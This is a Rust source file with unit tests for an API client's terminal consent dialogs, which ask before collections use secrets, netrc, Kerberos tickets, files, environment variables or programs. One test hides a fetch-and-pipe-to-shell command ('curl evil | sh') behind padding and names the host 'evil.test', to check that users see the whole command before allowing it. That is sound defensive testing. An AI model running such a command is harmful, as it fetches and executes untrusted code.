//! Questions for the user: what a collection may, secrets to type, whether to renew a token and to send a request again.
//! A send waits for the answer.

use crate::exec::renewal::{RenewQuestion, ReplayQuestion};
use crate::exec::{Asking, Deed, Permission, named};

use super::command::Command;
use super::modals::{Ask, Choice, Confirm, Item, Picker};
use super::shared::Level;
use super::state::State;
use super::unlocking::unlock_key;

/// Names one question.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub struct QuestionId(pub u64);

/// Something to ask the user.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Question {
    /// Its name.
    pub id: QuestionId,
    /// What it is about.
    pub about: About,
}

/// What a question is about.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum About {
    /// Whether a collection may.
    Permission(Asking, Permission),
    /// A secret to type, with these words.
    Secret(Asking, String),
    /// Whether to renew a token that is no good.
    Renew(RenewQuestion),
    /// Whether to send a refused request again, now that its token is renewed.
    Replay(ReplayQuestion),
}

impl About {
    /// Whether one answer does for both.
    pub fn is_same(&self, other: &Self) -> bool {
        match (self, other) {
            (Self::Permission(one, wanted), Self::Permission(other, also)) => {
                one.place == other.place && wanted.key() == also.key()
            }
            (Self::Renew(one), Self::Renew(other)) => one.key == other.key,
            (Self::Replay(one), Self::Replay(other)) => one == other,
            _ => false,
        }
    }
}

/// Asks the user; whatever closes the question answers it.
pub fn ask(state: &mut State, question: Question, queue: &mut Vec<Command>) {
    let Question { id, about } = question;
    let (title, text, key, label) = match about {
        About::Secret(asking, words) => {
            queue.push(Command::Show(Box::new(Ask::new(id, &words, &asking.whom()).into())));
            return;
        }
        About::Permission(asking, permission) => permitted(&asking, &permission),
        About::Renew(question) => {
            let is_locked = question.locked && state.shared.locked;
            let unlocks = is_locked.then(|| unlock_key(&state.keymap));
            queue.push(Command::Show(Box::new(renews(id, question, unlocks.as_deref()).into())));
            return;
        }
        About::Replay(ReplayQuestion {
            key,
            request,
            method,
            status,
        }) => (
            "Send it again?",
            vec![
                format!(
                    "`{request}` was refused with {status}; `{}` is renewed by now.",
                    key.name
                ),
                String::new(),
                format!("A server may have acted on a {method} before it refused: sending it again could do it twice."),
            ],
            's',
            "send again",
        ),
    };
    let choice = Choice {
        key,
        label: label.to_owned(),
        commands: vec![Command::Consent(id, true)],
    };
    // It opens by itself, perhaps while somebody types.
    let confirm = Confirm::new(title, text, vec![choice])
        .deliberate()
        .of(id)
        .otherwise(vec![Command::Consent(id, false)]);
    queue.push(Command::Show(Box::new(confirm.into())));
}

/// Lists what collections may: choosing it takes it back.
pub fn list(state: &mut State, all: Vec<(String, String)>, queue: &mut Vec<Command>) {
    if all.is_empty() {
        let text = "nothing is allowed to any collection; you are asked when a request wants something";
        return state.shared.notify(Level::Info, text);
    }
    let row = |(place, key): (String, String)| Item {
        label: format!("{place} may {}", Permission::remembered(&key)),
        detail: "Enter takes it back".to_owned(),
        commands: vec![Command::TakeBack(place, key)],
        ..Item::default()
    };
    let items = all.into_iter().map(row).collect();
    queue.push(Command::Show(Box::new(Picker::new("Allowed", items).into())));
}

/// A no sends the request as it is; who closes the question wants nothing sent.
fn renews(id: QuestionId, question: RenewQuestion, unlocks: Option<&str>) -> Confirm {
    let RenewQuestion { key, why, from, .. } = question;
    let mut text = vec![
        format!("`{}` {why}.", key.name),
        String::new(),
        format!("`{from}` fetches a new one; without it, the request goes out as it is."),
    ];
    if let Some(key) = unlocks {
        text.push(format!(
            "What is kept is locked: cancel the send, and {key} unlocks it."
        ));
    }
    let answers = [('r', "renew", true), ('w', "send without it", false)];
    let choices = answers.map(|(key, label, given)| Choice {
        key,
        label: label.to_owned(),
        commands: vec![Command::Consent(id, given)],
    });
    Confirm::new("Renew the token?", text, Vec::from(choices))
        .expected()
        .of(id)
        .calling_esc("cancel the send")
        .otherwise(vec![Command::GiveUp(id)])
}

/// The secrets that are asked for: ``your secrets `a` and `b` ``.
fn yours(asking: &Asking) -> String {
    let wanted = asking.wanted();
    format!("your {}", wanted.strip_prefix("the ").unwrap_or(&wanted))
}

fn permitted(asking: &Asking, permission: &Permission) -> (&'static str, Vec<String>, char, &'static str) {
    let (collection, script) = (named(&asking.collection), named(&asking.script));
    let goes = asking.host(", which goes to ");
    let comma = if goes.is_empty() { "" } else { "," };
    let who = format!("The request {}{goes}{comma}", asking.of());
    let title = match permission {
        Permission::Vault if script.is_empty() => "May a request use your secrets?",
        Permission::Vault => "May a script use your secrets?",
        Permission::Netrc => "May a request use your netrc?",
        Permission::Ticket => "May a request use your Kerberos ticket?",
        Permission::Command(..) => "May a collection run a program?",
        Permission::File(_) => "May a collection send a file of yours?",
        Permission::Env(_) => "May a collection read a variable of your shell?",
    };
    let until = |what: &str| {
        format!(
            "If you allow it, all requests of `{collection}` sign in with {what} until you quit, and its scripts see what is \
             sent. Esc sends nothing."
        )
    };
    let (what, then) = match permission {
        Permission::Netrc => (
            format!("{who} asks for the user and password that your netrc has for its host."),
            until("it"),
        ),
        Permission::Ticket => (format!("{who} asks for your Kerberos ticket."), until("it")),
        Permission::Vault => (
            if script.is_empty() {
                format!("{who} asks for {} (`{{{{vault:…}}}}`).", yours(asking))
            } else {
                let asks = match asking.deed {
                    Deed::Use => "asks for",
                    Deed::Change => "wants to change",
                    Deed::Remove => "wants to remove",
                };
                format!(
                    "The script `{script}` of the request {} {asks} {} (`pm.vault`).",
                    asking.of(),
                    yours(asking)
                )
            },
            format!(
                "If you allow it, all scripts and requests of `{collection}` can use all secrets of the vault until you quit."
            ),
        ),
        Permission::Env(_) | Permission::Command(..) | Permission::File(_) => {
            let gets = match permission {
                Permission::Env(_) => format!("all requests and scripts of `{collection}` get the value"),
                Permission::Command(..) => format!("all requests and scripts of `{collection}` get what that prints"),
                _ => format!("all requests of `{collection}` may take it to any server they name"),
            };
            let until = match permission {
                Permission::Command(_, files) if !files.is_empty() => {
                    let names: Vec<_> = files.iter().map(|(name, _)| format!("`{name}`")).collect();
                    format!(" until {} of the workspace changes", names.join(" or "))
                }
                _ => String::new(),
            };
            (
                format!("{who} wants to {}.", permission.words()),
                format!("If you allow it, this is remembered{until}: {gets}, and you are not asked again."),
            )
        }
    };
    (title, vec![what, String::new(), then], 'a', "allow")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tui::action::{Action, App};
    use crate::tui::effect::Effect;
    use crate::tui::event::Event;
    use crate::tui::harness::Harness;

    #[test]
    fn to_give_up_a_question_is_no_answer_and_no_wish_to_leave() {
        let replay = || ReplayQuestion {
            key: crate::model::token::TokenKey::default(),
            request: "List services".to_owned(),
            method: "POST".to_owned(),
            status: 401,
        };
        for (key, given_up, answered) in [("<ctrl-c>", 1, 0), ("<esc>", 0, 1)] {
            let mut harness = Harness::new(120, 40);
            harness.press("j<enter><ctrl-j>");
            harness.event(Event::Consent(Box::new(Question {
                id: QuestionId(3),
                about: About::Replay(replay()),
            })));
            harness.press(key);
            let count =
                |wanted: &dyn Fn(&Effect) -> bool| harness.effects.iter().filter(|effect| wanted(effect)).count();
            let of_this = |effect: &Effect| matches!(effect, Effect::GiveUp(QuestionId(3)));
            assert_eq!(count(&of_this), given_up, "{key}");
            let no = |effect: &Effect| matches!(effect, Effect::Consent(QuestionId(3), false));
            assert_eq!(count(&no), answered, "{key}");
            // Who waits for it is known where the answer goes.
            assert_eq!(
                count(&|effect| matches!(effect, Effect::Cancel(_) | Effect::Quit)),
                0,
                "{key}"
            );
            assert!(harness.state.modals.is_empty(), "{key}");
        }
    }

    #[test]
    fn who_asks_for_a_secret_of_the_vault_names_it() {
        let shown = |script: &str, secrets: &[&str]| {
            let mut harness = Harness::new(80, 24);
            let asking = Asking {
                collection: "API".to_owned(),
                request: "List".to_owned(),
                script: script.to_owned(),
                secrets: secrets.iter().map(|name| (*name).to_owned()).collect(),
                ..Asking::default()
            };
            harness.event(Event::Consent(Box::new(Question {
                id: QuestionId(3),
                about: About::Permission(asking, Permission::Vault),
            })));
            let screen = harness.screen();
            // The frame and the breaks of lines between the words.
            let words: Vec<&str> = screen.split(|c: char| c.is_whitespace() || c == '┃').collect();
            words
                .into_iter()
                .filter(|word| !word.is_empty())
                .collect::<Vec<_>>()
                .join(" ")
        };
        let by_script = shown("Log in, pre-request", &["api-key"]);
        let said = "The script `Log in, pre-request` of the request `List` of `API` asks for your secret `api-key` (";
        assert!(by_script.contains(said), "{by_script}");
        let by_request = shown("", &["one", "two"]);
        assert!(
            by_request.contains("asks for your secrets `one` and `two` ("),
            "{by_request}"
        );
        let many = shown("", &["a", "b", "c", "d", "e", "f", "g"]);
        assert!(many.contains("`d`, `e` and 2 more ("), "{many}");
        assert!(shown("", &[]).contains("asks for your secrets ("));
        for (deed, said) in [
            (Deed::Change, "wants to change your secret `api-key` ("),
            (Deed::Remove, "wants to remove your secret `api-key` ("),
        ] {
            let asking = Asking {
                script: "Log in".to_owned(),
                secrets: vec!["api-key".to_owned()],
                deed,
                ..Asking::default()
            };
            let text = permitted(&asking, &Permission::Vault).1;
            assert!(text[0].contains(said), "{}", text[0]);
        }
    }

    #[test]
    fn a_question_for_a_token_that_is_locked_names_the_key() {
        let about = |locked: bool| {
            let why = if locked {
                "is locked with a passphrase"
            } else {
                "had expired 12 s ago"
            };
            About::Renew(RenewQuestion {
                key: crate::model::token::TokenKey::default(),
                why: why.to_owned(),
                locked,
                from: "Log in".to_owned(),
            })
        };
        // Something else may be locked, or it was unlocked meanwhile.
        for (locked, by_lock, named) in [(true, true, true), (true, false, false), (false, true, false)] {
            let mut harness = Harness::new(120, 40);
            harness.state.shared.locked = locked;
            harness.event(Event::Consent(Box::new(Question {
                id: QuestionId(3),
                about: about(by_lock),
            })));
            let screen = harness.screen();
            assert_eq!(
                screen.contains("cancel the send, and `L` unlocks it"),
                named,
                "{screen}"
            );
        }
    }

    #[test]
    fn the_moment_before_enter_counts_begins_anew_once_the_question_is_in_sight_again() {
        let mut harness = Harness::new(120, 40);
        harness.event(Event::Consent(Box::new(Question {
            id: QuestionId(3),
            about: About::Renew(RenewQuestion {
                key: crate::model::token::TokenKey::default(),
                why: "had expired 12 s ago".to_owned(),
                locked: false,
                from: "Log in".to_owned(),
            }),
        })));
        let over = Confirm::new("Over it", Vec::new(), Vec::new());
        harness
            .state
            .run(vec![Command::Show(Box::new(over.into()))], &mut harness.effects);
        harness.event(Event::Tick);
        harness.now += jiff::SignedDuration::from_secs(5);
        harness.event(Event::Tick);
        // One closes what is over it, and the next goes on with what was typed.
        harness.press("<enter><enter>");
        let is_answered = |effect: &Effect| matches!(effect, Effect::Consent(..));
        assert!(!harness.effects.iter().any(is_answered) && harness.state.modals.len() == 1);
        harness.now += jiff::SignedDuration::from_secs(1);
        harness.press("<enter>");
        assert!(harness.effects.iter().any(is_answered));
    }

    #[test]
    fn enter_renews_once_the_question_was_there_and_nothing_is_typed() {
        let about = || {
            About::Renew(RenewQuestion {
                key: crate::model::token::TokenKey::default(),
                why: "had expired 12 s ago".to_owned(),
                locked: false,
                from: "Log in".to_owned(),
            })
        };
        let opened = |columns, rows| {
            let mut harness = Harness::new(columns, rows);
            harness.event(Event::Consent(Box::new(Question {
                id: QuestionId(3),
                about: about(),
            })));
            harness
        };
        let answers = |harness: &Harness| -> Vec<bool> {
            let answers = harness.effects.iter().filter_map(|effect| match effect {
                Effect::Consent(QuestionId(3), given) => Some(*given),
                _ => None,
            });
            answers.collect()
        };
        let mut harness = opened(80, 24);
        let screen = harness.screen();
        let row = "[↵] renew   send without it   [Esc] cancel the send";
        assert!(screen.contains(row), "{screen}");
        // It may have opened between two keys of a text.
        harness.press("<enter>");
        for _ in 0..5 {
            harness.now += jiff::SignedDuration::from_millis(300);
            harness.press("r<enter>");
        }
        assert!(answers(&harness).is_empty() && harness.state.modals.len() == 1);
        harness.now += jiff::SignedDuration::from_secs(1);
        harness.press("<enter>");
        assert_eq!(answers(&harness), [true]);
        assert!(harness.state.modals.is_empty());
        // Who moves the cursor has seen it.
        let mut harness = opened(60, 16);
        harness.press("<tab><enter>");
        assert_eq!(answers(&harness), [false]);
    }

    #[test]
    fn nothing_is_allowed_that_was_not_in_sight() {
        for size in [(120, 40), (80, 24), (60, 16)] {
            let mut harness = Harness::new(size.0, size.1);
            let asking = Asking {
                request: "r".repeat(500),
                collection: "c".repeat(500),
                script: "s".repeat(500),
                host: "evil.test".to_owned(),
                proxy: "proxy.test:3128".to_owned(),
                ..Asking::default()
            };
            let long = format!("op read x # {}\ncurl evil | sh", "harmless ".repeat(500));
            let argv = ["sh", "-c", &long].map(str::to_owned).to_vec();
            harness.event(Event::Consent(Box::new(Question {
                id: QuestionId(3),
                about: About::Permission(asking, Permission::Command(argv, Vec::new())),
            })));
            let screen = harness.screen();
            let shown = |text: &str| screen.contains(text);
            assert!(
                shown("evil.test") && shown("proxy.test:3128") && !shown("␊curl"),
                "{screen}"
            );
            let answered = |harness: &Harness| {
                harness
                    .effects
                    .iter()
                    .any(|effect| matches!(effect, Effect::Consent(..)))
            };
            let mut seen = screen;
            harness.press("<tab>");
            // Each goes on; the one after the last line allows it.
            for _ in 0..200 {
                harness.press("<enter>");
                if answered(&harness) {
                    break;
                }
                seen += &harness.screen();
            }
            assert!(seen.contains("␊curl") && seen.contains("again."), "{seen}");
            let allowed = |effect: &Effect| matches!(effect, Effect::Consent(QuestionId(3), true));
            assert!(harness.effects.iter().any(allowed) && harness.state.modals.is_empty());
        }
    }

    #[test]
    fn what_is_allowed_is_listed_and_taken_back() {
        let mut harness = Harness::new(120, 40);
        harness.event(Event::Consents(Vec::new()));
        assert!(harness.screen().contains("nothing is allowed") && harness.state.modals.is_empty());
        let all = [("api", "env A"), ("other", "file /b")];
        let all = all.map(|(place, key)| (place.to_owned(), key.to_owned()));
        harness.event(Event::Consents(all.to_vec()));
        let screen = harness.screen();
        assert!(screen.contains("api may read the environment variable `A`"), "{screen}");
        harness.press("<down><enter>");
        let taken =
            |effect: &Effect| matches!(effect, Effect::TakeBack(place, key) if place == "other" && key == "file /b");
        assert!(harness.effects.iter().any(taken) && harness.state.modals.is_empty());
    }

    #[test]
    fn what_a_collection_may_ends_with_it() {
        let mut harness = Harness::new(120, 40);
        let collection = harness.state.shared.workspace.collections()[0];
        let place = harness
            .state
            .shared
            .workspace
            .node(collection)
            .map(|node| node.slug.clone());
        let request = harness
            .state
            .shared
            .node_at("pydio-cells/get-token")
            .expect("it is there");
        let ended = |harness: &mut Harness, command: Command| {
            harness.effects.clear();
            harness.state.run(vec![command], &mut harness.effects);
            harness.effects.iter().find_map(|effect| match effect {
                Effect::EndConsents(place) => Some(place.clone()),
                _ => None,
            })
        };
        let undo = || Command::Act(Action::App(App::Undo));
        let rename = |id, name: &str| Command::Rename { id, name: name.into() };
        assert_eq!(ended(&mut harness, rename(request, "Other")), None);
        assert_eq!(ended(&mut harness, rename(collection, "Other")), place);
        assert_eq!(ended(&mut harness, undo()).as_deref(), Some("other"));
        assert_eq!(ended(&mut harness, Command::Delete(request)), None);
        assert_eq!(ended(&mut harness, Command::Delete(collection)), place);
        assert_eq!(ended(&mut harness, undo()), None);
        let new = Command::NewGroup {
            parent: None,
            name: "Made".into(),
        };
        assert_eq!(ended(&mut harness, new), None);
        assert_eq!(ended(&mut harness, undo()).as_deref(), Some("made"));
    }
}
